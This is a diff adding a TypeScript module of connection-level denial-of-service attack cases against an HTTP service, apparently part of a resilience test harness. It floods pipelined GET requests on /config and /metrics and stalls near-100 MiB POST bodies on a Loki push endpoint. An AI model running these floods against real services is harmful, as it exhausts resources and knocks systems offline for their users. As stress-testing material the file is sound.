@@ -1,0 +1,49 @@
+import { sleep } from '../attacker.ts';
+import type { Attack } from '../attacker.ts';
+
+function pipelined(path: string): Attack {
+  return {
+    name: `pipelined ${path}`,
+    about: 'A1: 5 connections, 1,000 requests on each, answers unread, hung up after 3 s',
+    async run(attacker) {
+      const request = `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(1000);
+      for (let round = 0; round < 2; round++) {
+        const sockets = await Promise.all(Array.from({ length: 5 }, () => attacker.open()));
+        for (const socket of sockets) socket.pause().write(request);
+        await sleep(3_000);
+        for (const socket of sockets) socket.destroy();
+        await sleep(3_000);
+      }
+    },
+  };
+}
+
+const mib = 2 ** 20;
+
+export const connectionAttacks: readonly Attack[] = [
+  pipelined('/config'),
+  pipelined('/metrics'),
+  {
+    name: 'bodies that stop',
+    about: 'A8: two bodies of just under the limit of a body, then silence',
+    async run(attacker) {
+      const bytes = 100 * mib - 1;
+      const head = `POST /loki/api/v1/push HTTP/1.1\r\nHost: x\r\nX-Scope-OrgID: attacker\r\nContent-Type: application/json\r\nContent-Length: ${bytes}\r\n\r\n`;
+      const sockets = await Promise.all(Array.from({ length: 6 }, () => attacker.open()));
+      const piece = Buffer.alloc(mib, 0x20);
+      await Promise.all(
+        sockets.map(async (socket) => {
+          socket.write(head);
+          for (let sent = 0; sent + mib < bytes && !socket.destroyed; sent += mib)
+            if (!socket.write(piece))
+              await new Promise((resolve) => {
+                socket.once('drain', resolve);
+                socket.once('close', resolve);
+              });
+        }),
+      );
+      await sleep(8_000);
+      for (const socket of sockets) socket.destroy();
+    },
+  },
+];
